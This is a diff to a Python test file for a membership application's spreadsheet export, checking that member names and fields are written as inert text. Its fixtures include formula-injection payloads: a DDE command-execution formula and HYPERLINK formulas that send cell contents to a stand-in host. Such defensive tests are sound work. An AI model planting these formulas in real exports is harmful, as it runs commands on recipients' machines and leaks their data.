@@ -14,6 +14,8 @@ from paicha.reports.declarations import all_forms
 
 CALC = "=cmd|' /C calc'!A0"
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+# A 姓名 holds at most 30 characters (PostgreSQL enforces it): the shorter formula of the two.
+SHORT_LINK = '=HYPERLINK("http://e.x/","点")'
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
 
 
@@ -84,7 +86,8 @@ def hostile(tree):
     worker = User.objects.create_user("w", password="x-Secret-9", organization=tree.branch_a1,
                                       role=Role.BRANCH_WORKER)
     calc = make_member(tree.branch_a1, CALC, work_unit=LINK, residence=LINK, mobile="13800000009")
-    link = make_member(tree.branch_a1, LINK, work_unit=CALC, join_date=datetime.date(2001, 7, 1))
+    link = make_member(tree.branch_a1, SHORT_LINK, work_unit=CALC,
+                       join_date=datetime.date(2001, 7, 1))
     case = case_open(member=calc, acting_user=worker, opened_on=datetime.date(2024, 3, 1),
                      lost_since=datetime.date(2020, 1, 1))
     return {"calc": calc, "link": link, "case": case}
@@ -95,7 +98,7 @@ def test_member_export_writes_hostile_names_as_text(hostile, personas, client_fo
     response = client.get(reverse("members:export"))
     assert response.status_code == 200
     texts = _assert_no_formula_in_xlsx(response.content, "members:export")
-    assert "'" + CALC in texts and "'" + LINK in texts
+    assert "'" + CALC in texts and "'" + LINK in texts and "'" + SHORT_LINK in texts
 
 
 @pytest.mark.parametrize("fmt", ["xlsx", "docx"])
